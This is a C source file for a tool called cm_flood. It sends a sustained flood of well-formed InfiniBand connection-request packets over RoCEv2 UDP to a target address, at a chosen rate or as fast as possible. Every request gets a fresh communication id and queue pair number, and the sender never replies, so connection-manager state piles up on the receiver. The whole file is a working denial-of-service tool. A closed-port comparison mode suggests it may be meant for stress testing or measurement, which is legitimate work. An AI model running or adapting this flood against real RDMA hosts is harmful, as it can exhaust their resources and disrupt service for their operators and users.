/* A flood of connection requests from a peer that never answers: well-formed REQs of the IB connection management protocol in
 * RoCEv2 packets (IBA 12.6.5, annexes A11 and A17), each with its own communication id and queue pair number.
 *
 *   cm_flood FROM TO UDP-PORT CM-PORT RATE SECONDS      RATE requests per second, 0: as fast as possible
 *
 * UDP-PORT is 4791, or a closed UDP port for comparison: the sender's cost is the same, and no socket receives. Prints the
 * number of requests sent.
 */
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BTH = 12, DETH = 8, MAD = 256, ICRC = 4, PAYLOAD = BTH + DETH + MAD + ICRC, IP_UDP = 28, SOURCE_PORT = 49999 };

static uint32_t table[256];

static void make_table(void)
{
    for (uint32_t n = 0; n < 256; n++) {
        uint32_t c = n;
        for (int bit = 0; bit < 8; bit++)
            c = c & 1 ? 0xedb88320u ^ c >> 1 : c >> 1;
        table[n] = c;
    }
}

static uint32_t crc(uint32_t c, const uint8_t *bytes, size_t len)
{
    while (len--)
        c = table[(c ^ *bytes++) & 255] ^ c >> 8;
    return c;
}

static void put(uint8_t *at, uint64_t value, int bytes)
{
    while (bytes--) {
        at[bytes] = value;
        value >>= 8;
    }
}

/* Fields that are equal in all requests. */
static void prepare(uint8_t *packet, struct in_addr from, struct in_addr to, int cm_port)
{
    uint8_t *mad = packet + BTH + DETH, *req = mad + 24, *header = req + 140;
    memset(packet, 0, PAYLOAD);
    packet[0] = 0x64;                     /* UD SEND ONLY */
    put(packet + 2, 0xffff, 2);           /* default P_Key */
    put(packet + 5, 1, 3);                /* QP1 */
    put(packet + BTH, 0x80010000, 4);     /* its Q_Key */
    put(packet + BTH + 5, 1, 3);
    mad[0] = 1, mad[1] = 7, mad[2] = 2, mad[3] = 3; /* class: communication management, method: send */
    put(mad + 16, 0x10, 2);               /* REQ */
    put(req + 8, 0x01060000u + cm_port, 8); /* RDMA_PS_TCP */
    put(req + 16, 0x0200f100d, 8);        /* CA GUID */
    req[35] = 1, req[39] = 1;
    req[43] = 20 << 3;                    /* response timeout; RC */
    req[47] = 20 << 3 | 7;
    put(req + 48, 0xffff, 2);
    req[50] = 3 << 4 | 7;                 /* MTU 1024 */
    req[51] = 15 << 4;
    put(req + 52, 0xffffffff, 4);
    put(req + 66, 0xffff, 2), memcpy(req + 68, &from, 4);
    put(req + 82, 0xffff, 2), memcpy(req + 84, &to, 4);
    req[93] = 64, req[95] = 18 << 3;
    header[1] = 0x40;                     /* IPv4 */
    put(header + 2, 1, 2);
    memcpy(header + 16, &from, 4), memcpy(header + 32, &to, 4);
}

/* IP and UDP headers for the ICRC: fields that may change on the way are ones (IBA annex A17). */
static uint32_t crc_of_headers(struct in_addr from, struct in_addr to, int port)
{
    uint8_t lead[8 + IP_UDP];
    memset(lead, 0xff, sizeof lead);
    uint8_t *ip = lead + 8, *udp = ip + 20;
    ip[0] = 0x45;
    put(ip + 2, IP_UDP + PAYLOAD, 2);
    put(ip + 4, 0x00004000, 4);           /* no identification, do not fragment */
    ip[9] = 17;
    memcpy(ip + 12, &from, 4), memcpy(ip + 16, &to, 4);
    put(udp, SOURCE_PORT, 2), put(udp + 2, port, 2), put(udp + 4, 8 + PAYLOAD, 2);
    return crc(0xffffffff, lead, sizeof lead);
}

/* Completes a request: PSN, transaction id, communication id and queue pair number differ from those of all others. */
static void finish(uint8_t *packet, uint32_t number, uint32_t lead)
{
    uint8_t *mad = packet + BTH + DETH, *req = mad + 24;
    put(packet + 9, number, 3);
    put(mad + 8, number, 8);
    put(req, 0x10000000u + number, 4);
    put(req + 32, 2 + number % 0xfffff0, 3);
    uint8_t masked = packet[4];
    packet[4] = 0xff;
    uint32_t sum = ~crc(lead, packet, PAYLOAD - ICRC);
    packet[4] = masked;
    for (int i = 0; i < ICRC; i++)
        packet[PAYLOAD - ICRC + i] = sum >> 8 * i;
}

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec * 1e-9;
}

int main(int argc, char **argv)
{
    if (argc != 7)
        return 2;
    struct sockaddr_in from = {.sin_family = AF_INET, .sin_port = htons(SOURCE_PORT)};
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[3]))};
    int always = IP_PMTUDISC_DO, sock = socket(AF_INET, SOCK_DGRAM, 0);
    if (!inet_aton(argv[1], &from.sin_addr) || !inet_aton(argv[2], &to.sin_addr) ||
        setsockopt(sock, IPPROTO_IP, IP_MTU_DISCOVER, &always, sizeof always) ||
        bind(sock, (struct sockaddr *)&from, sizeof from)) {
        perror("cm_flood");
        return 1;
    }
    double rate = atof(argv[5]), seconds = atof(argv[6]), begun = now();
    uint8_t packet[PAYLOAD];
    uint32_t sent = 0;
    make_table();
    prepare(packet, from.sin_addr, to.sin_addr, atoi(argv[4]));
    uint32_t lead = crc_of_headers(from.sin_addr, to.sin_addr, atoi(argv[3]));
    for (double elapsed = 0; elapsed < seconds; elapsed = now() - begun) {
        double due = rate > 0 ? elapsed * rate : sent + 64;
        if (sent >= due)
            usleep(500);
        for (int burst = 0; burst < 256 && sent < due; burst++) {
            finish(packet, ++sent, lead);
            /* A closed UDP port is reported by ICMP, as an error of a later send. */
            sendto(sock, packet, sizeof packet, 0, (struct sockaddr *)&to, sizeof to);
        }
    }
    printf("%u\n", sent);
    return 0;
}
